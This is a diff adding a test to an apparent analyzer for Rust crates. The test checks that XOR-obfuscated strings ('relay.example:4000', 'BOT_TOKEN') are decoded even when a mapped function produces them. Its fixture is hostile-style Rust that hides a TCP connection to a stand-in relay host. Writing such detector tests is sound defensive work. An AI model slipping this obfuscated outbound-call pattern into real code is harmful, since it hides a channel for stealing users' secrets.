@@ -1132,6 +1132,25 @@ fn send(body: &[u8]) {
     ]
 
 
+def test_a_function_named_as_a_value_mapped_over_a_constant_range_is_run() -> None:
+    # `(0..N).filter_map(entry)`: the crate's function runs on each item, inline
+    source = """
+const TABLE: [&[u8]; 2] = [
+    &[0x70, 0x67, 0x6e, 0x63, 0x7b, 0x2c, 0x67, 0x7a, 0x63, 0x6f, 0x72, 0x6e, 0x67, 0x38, 0x36, 0x32, 0x32, 0x32],
+    &[0x40, 0x4d, 0x56, 0x5d, 0x56, 0x4d, 0x49, 0x47, 0x4c],
+];
+fn entry(n: usize) -> Option<String> {
+    TABLE.get(n).map(|w| w.iter().map(|b| (b ^ 0x02) as char).collect())
+}
+fn start() {
+    let names: Vec<String> = (0..TABLE.len()).filter_map(entry).collect();
+    let _ = std::net::TcpStream::connect(names[0].as_str());
+}
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert [r.text for r in found.revealed] == ["relay.example:4000", "BOT_TOKEN"]
+
+
 def test_statics_declared_by_lazy_static_are_evaluated() -> None:
     source = """
 lazy_static! {
